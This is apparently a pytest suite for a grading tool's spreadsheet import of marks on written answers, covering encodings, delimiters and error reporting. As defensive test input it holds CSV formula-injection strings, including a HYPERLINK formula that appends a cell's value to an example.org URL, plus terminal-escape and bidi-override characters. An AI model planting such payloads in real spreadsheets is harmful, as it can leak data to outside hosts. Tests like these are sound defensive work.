"""Marks of written answers: the file as spreadsheets and people give it back."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wasm_lab.errors import MarksError
from wasm_lab.grading.marks import UNTOUCHED
from wasm_lab.grading.nouns import CellOutcome, GradedCell, GradedExercise, Outcome, Report, Student
from wasm_lab.grading.report.marks import COLUMNS, marks_text, with_marks
from wasm_lab.views.grades import write_report

if TYPE_CHECKING:
    from pathlib import Path

    from wasm_lab.grading.nouns import CellOutcome as Cell

pytestmark = pytest.mark.usefixtures("without_nbgrader")


def a_report(
    *students: str, answer: str = "Because\nthe audit says so.", exercise: str = "read_an_audit"
) -> Report:
    """One exercise with one written answer of two points."""
    graded = GradedExercise(
        name=exercise,
        assignment="02_sandbox",
        title="Reading an audit",
        minutes=5,
        cells=(GradedCell(grade_id="words", kind="written", max_points=2.0),),
    )
    cell = CellOutcome(grade_id="words", kind="written", points=None, max_points=2.0, answer=answer)
    return Report(
        exercises=(graded,),
        students=tuple(Student(key=one, name=one) for one in sorted(students)),
        outcomes=tuple(
            Outcome(student=one, assignment="02_sandbox", exercise=exercise, status="graded", cells=(cell,))
            for one in sorted(students)
        ),
    )


def table(report: Report) -> list[dict[str, str]]:
    """The file as a spreadsheet has it in memory."""
    text = marks_text(report).removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def saved(
    rows: list[dict[str, str]], *, delimiter: str = ",", encoding: str = "utf-8", end: str = "\r\n"
) -> bytes:
    """The file as a spreadsheet saves it."""
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=delimiter, lineterminator=end)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def marks_of(report: Report) -> dict[str, tuple[float | None, str]]:
    return {one.student: (_cell(one).points, _cell(one).message) for one in report.outcomes}


def _cell(outcome: Outcome) -> Cell:
    return outcome.cells[0]


def problems(report: Report, content: bytes) -> list[str]:
    with pytest.raises(MarksError) as caught:
        with_marks(report, content)
    return [str(problem) for problem in caught.value.problems] or [caught.value.message]


def test_there_is_a_row_for_each_answer_and_it_waits(a_class: Report) -> None:
    rows = table(a_class)
    waiting = [
        cell
        for one in a_class.outcomes
        for cell in one.cells
        if cell.kind == "written" and one.status != "missing"
    ]
    assert len(rows) == len(waiting)
    assert {row["points"] for row in rows} == {""}
    assert list(rows[0]) == list(COLUMNS)
    assert len({row["row"] for row in rows}) == len(rows)


SPREADSHEETS = {
    "as written": {},
    "with a byte order mark": {"encoding": "utf-8-sig"},
    "Excel in German": {"delimiter": ";", "encoding": "cp1252"},
    "Excel's Unicode text": {"delimiter": "\t", "encoding": "utf-16"},
    "LibreOffice on Linux": {"end": "\n"},
    "old Mac line ends": {"end": "\r"},
}


@pytest.mark.parametrize("how", SPREADSHEETS.values(), ids=SPREADSHEETS.keys())
def test_marks_come_back_from_any_spreadsheet(how: dict[str, str]) -> None:
    report = a_report("ada", "grace", "käthe")
    rows = table(report)
    rows[0] |= {"points": "1,5", "comment": 'Schön; fast, nur: "warum"?'}
    rows[2] |= {"points": " 2.0 "}
    marked = with_marks(report, saved(rows, **how))
    assert marks_of(marked.report) == {
        "ada": (1.5, 'Schön; fast, nur: "warum"?'),
        "grace": (None, ""),
        "käthe": (2.0, ""),
    }
    assert marked.taken == 2


def test_excels_line_that_names_the_delimiter_is_skipped() -> None:
    report = a_report("ada")
    rows = table(report)
    rows[0]["points"] = "1,25"
    marked = with_marks(report, b"sep=;\r\n" + saved(rows, delimiter=";"))
    assert marks_of(marked.report) == {"ada": (1.25, "")}


def test_columns_may_be_moved_added_and_rows_sorted() -> None:
    report = a_report("ada", "grace")
    rows = [{"mood": "tired", **{key: row[key] for key in reversed(row)}} for row in reversed(table(report))]
    rows[0]["points"] = "2"
    assert marks_of(with_marks(report, saved(rows)).report) == {"ada": (None, ""), "grace": (2.0, "")}


def test_a_spreadsheet_may_take_names_for_numbers() -> None:
    report = a_report("007", "1e3", "12.50")
    rows = table(report)
    for row, changed in zip(rows, ("7", "12,5", "1000"), strict=True):
        row |= {"student": changed, "points": "1"}
    assert {points for points, _ in marks_of(with_marks(report, saved(rows)).report).values()} == {1.0}


def test_letters_that_windows_encoding_has_not_may_be_lost() -> None:
    report = a_report("Nguyễn Thị Bình", "李明", "ada")
    rows = table(report)
    for row in rows:
        row["points"] = "0,5"
    out = saved(rows, delimiter=";").decode().encode("cp1252", errors="replace")
    assert "Nguy?n" in out.decode("cp1252")
    assert {points for points, _ in marks_of(with_marks(report, out).report).values()} == {0.5}


WRONG = {
    "no number": ("fine", "no number"),
    "a date": ("01. Mai", "may have made a date"),
    "more than there are": ("2.01", "more than the 2"),
    "below zero": ("-1", "no number"),
    "infinite": ("inf", "no number"),
    "not a number": ("nan", "no number"),
    "underscores": ("1_0", "no number"),
    "exponents": ("1e0", "no number"),
    "two numbers": ("1 2", "no number"),
    "a percentage": ("50%", "no number"),
    "a formula": ("=1+1", "no number"),
    "hostile": ("\x1b[31m<b>\u202e", "no number"),
}


@pytest.mark.parametrize(("points", "says"), WRONG.values(), ids=WRONG.keys())
def test_wrong_points_are_told_with_their_row(points: str, says: str) -> None:
    report = a_report("ada", "grace", "linus")
    rows = table(report)
    rows[0]["points"] = "1"
    rows[2]["points"] = points
    (told,) = problems(report, saved(rows))
    # Each answer has two lines, so the third row begins at line 6 of the text.
    assert told.startswith("Row 4 (line 6 of the text): ")
    assert says in told
    assert "\x1b" not in told
    assert "\u202e" not in told


def test_every_mistake_is_told_at_once() -> None:
    report = a_report("ada", "grace")
    rows = table(report)
    rows[0]["points"], rows[1]["points"] = "3", "x"
    assert len(problems(report, saved(rows))) == 2


def test_an_answer_marked_twice_is_told() -> None:
    report = a_report("ada")
    rows = table(report)
    (told,) = problems(report, saved([*rows, {**rows[0], "points": "1"}]))
    assert "stands in row 2 already" in told


def test_a_row_of_nobody_is_told() -> None:
    report = a_report("ada")
    rows = table(report)
    stranger = {**rows[0], "row": "mine", "student": "mallory", "points": "2"}
    (told,) = problems(report, saved([*rows, stranger]))
    assert "no written answer of mallory, read_an_audit, words" in told


def test_a_row_of_somebody_who_left_is_kept_and_stops_nobody(tmp_path: Path) -> None:
    both, ada = a_report("ada", "grace"), a_report("ada")
    rows = table(both)
    rows[0]["points"], rows[1]["points"] = "1", "2"
    (tmp_path / "written_answers.csv").write_bytes(saved(rows))
    for _ in range(2):
        written = write_report(ada, tmp_path)
        assert marks_of(written.report) == {"ada": (1.0, "")}
        (said,) = [one for one in written.messages if "grace" in one]
        assert said.startswith("Row 3 counts for nothing")
    assert marks_of(write_report(both, tmp_path).report) == {"ada": (1.0, ""), "grace": (2.0, "")}


def test_a_file_that_could_not_be_read_has_no_row_to_mark(tmp_path: Path) -> None:
    report = a_report("ada", "grace")
    zero = replace(report.outcomes[1].cells[0], points=0.0, answer="")
    refused = replace(report.outcomes[1], status="refused", cells=(zero,))
    report = replace(report, outcomes=(report.outcomes[0], refused))
    assert [row["student"] for row in table(report)] == ["ada"]
    write_report(report, tmp_path)
    assert marks_of(write_report(a_report("ada"), tmp_path).report) == {"ada": (None, "")}


def test_a_zero_that_no_person_gave_is_not_read_back_as_one() -> None:
    report = a_report("ada")
    untouched = replace(report.outcomes[0].cells[0], points=0.0, message=UNTOUCHED)
    report = replace(report, outcomes=(replace(report.outcomes[0], cells=(untouched,)),))
    rows = table(report)
    assert [(row["points"], row["comment"]) for row in rows] == [("", "")]
    assert marks_of(with_marks(report, saved(rows)).report) == {"ada": (0.0, UNTOUCHED)}
    rows[0]["points"] = "1"
    assert marks_of(with_marks(report, saved(rows)).report) == {"ada": (1.0, "")}


def test_one_column_sorted_alone_is_told() -> None:
    report = a_report("ada", "grace")
    rows = table(report)
    rows[0]["student"], rows[1]["student"] = rows[1]["student"], rows[0]["student"]
    assert all("never one column alone" in told for told in problems(report, saved(rows)))


BROKEN = {
    "empty": (b"", "no column row"),
    "another file": (b"Identifier,Grade\r\nParticipant 1,2\r\n", "no column row"),
    "a quotation mark that stays open": (
        b'row,student,exercise,grade_id,points\r\n"w1,ada',
        "no CSV at line",
    ),
    "a workbook": (b"PK\x03\x04\x14\x00" + bytes(range(256)), "no column row|encoding"),
    "binary": (b"\xff\xfe\x00", "encoding"),
}


@pytest.mark.parametrize(("content", "says"), BROKEN.values(), ids=BROKEN.keys())
def test_a_file_that_is_something_else_is_told(content: bytes, says: str) -> None:
    (told,) = problems(a_report("ada"), content)
    assert re.search(says, told)


def test_a_comment_without_points_leaves_the_answer_open() -> None:
    report = a_report("ada")
    rows = table(report)
    rows[0]["comment"] = "Come and see me."
    assert marks_of(with_marks(report, saved(rows)).report) == {"ada": (None, "Come and see me.")}


def test_an_answer_that_changed_is_open_again_and_the_old_file_kept(tmp_path: Path) -> None:
    old, new = a_report("ada", "grace"), a_report("ada", "grace", answer="Another thought.")
    new = replace(new, outcomes=(old.outcomes[0], new.outcomes[1]))
    write_report(old, tmp_path)
    rows = table(old)
    rows[0]["points"], rows[1]["points"] = "1", "2"
    content = saved(rows, delimiter=";")
    (tmp_path / "written_answers.csv").write_bytes(content)
    written = write_report(new, tmp_path)
    assert marks_of(written.report) == {"ada": (1.0, ""), "grace": (None, "")}
    assert any("the answer has changed since" in message for message in written.messages)
    kept = list(tmp_path.glob("written_answers.*.csv"))
    assert [path.read_bytes() for path in kept] == [content]
    assert [row["points"] for row in table(written.report)] == ["1", ""]


def test_rows_of_exercises_that_are_not_in_this_run_stay(tmp_path: Path) -> None:
    first, second = a_report("ada"), a_report("ada", exercise="honest_timing")
    both = replace(
        first, exercises=first.exercises + second.exercises, outcomes=first.outcomes + second.outcomes
    )
    rows = table(both)
    rows[1] |= {"points": "2", "comment": "=well done"}
    (tmp_path / "written_answers.csv").write_bytes(saved(rows))
    for _ in range(3):
        write_report(first, tmp_path)
    assert marks_of(write_report(both, tmp_path).report) == {"ada": (2.0, "=well done")}
    back = with_marks(both, (tmp_path / "written_answers.csv").read_bytes()).report
    assert [_cell(one).points for one in back.outcomes] == [None, 2.0]


def test_signs_within_names_answers_and_comments_run_nowhere_and_come_back() -> None:
    name, comment = "Eve;=1+1", "Good;\n- but why,\n-1?"
    report = a_report(name, answer='Because:\n=HYPERLINK("http://example.org/?"&A1;"click")')
    rows = table(report)
    rows[0] |= {"points": "1", "comment": comment}
    once = marks_text(with_marks(report, saved(rows)).report)
    for row in csv.reader(io.StringIO(once.removeprefix("\ufeff"), newline=""), delimiter=";"):
        assert not [value for value in row if value.lstrip().startswith(("=", "-"))]
    again = with_marks(report, once.encode()).report
    assert marks_of(again) == {name: (1.0, comment)}
    assert marks_text(again) == once


def test_a_mistake_leaves_every_file_as_it_was(tmp_path: Path) -> None:
    report = a_report("ada")
    write_report(report, tmp_path)
    rows = table(report)
    rows[0]["points"] = "many"
    (tmp_path / "written_answers.csv").write_bytes(saved(rows))
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    with pytest.raises(MarksError, match=r"written_answers\.csv has 1 mistake.*\n.*Row 2"):
        write_report(a_report("ada", "grace"), tmp_path)
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


def test_marks_reach_every_file(tmp_path: Path) -> None:
    report = a_report("ada")
    write_report(report, tmp_path)
    rows = table(report)
    rows[0] |= {"points": "1,5", "comment": "<b>nearly</b>"}
    (tmp_path / "written_answers.csv").write_bytes(saved(rows, delimiter=";"))
    written = write_report(report, tmp_path)
    (page,) = (tmp_path / "students").iterdir()
    assert "&lt;b&gt;nearly&lt;/b&gt;" in page.read_text(encoding="utf-8")
    (row,) = csv.DictReader(io.StringIO((tmp_path / "moodle.csv").read_text(encoding="utf-8")))
    assert row["Grade"] == "1.5"
    assert written.report.outcomes[0].points == 1.5
    assert '"points": 1.5' in (tmp_path / "outcomes.jsonl").read_text()


@settings(deadline=None)
@given(
    students=st.lists(
        st.text(st.characters(codec="utf-8"), max_size=12), min_size=1, max_size=4, unique=True
    ),
    answer=st.text(st.characters(codec="utf-8"), max_size=40),
    comment=st.text(st.characters(codec="utf-8", exclude_categories=("C", "Z")), max_size=20),
    points=st.decimals(0, 2, places=2),
    delimiter=st.sampled_from(",;\t"),
)
def test_what_was_written_is_read(
    students: list[str], answer: str, comment: str, points: object, delimiter: str
) -> None:
    report = a_report(*students, answer=answer)
    rows = table(report)
    for row in rows:
        row |= {"points": str(points).replace(".", ","), "comment": comment}
    marked = with_marks(report, saved(rows, delimiter=delimiter, encoding="utf-8-sig")).report
    assert {value for value, _ in marks_of(marked).values()} == {float(str(points))}
    again = with_marks(report, marks_text(marked).encode()).report
    assert marks_of(again).keys() == marks_of(marked).keys()
    assert marks_text(with_marks(report, marks_text(again).encode()).report) == marks_text(again)
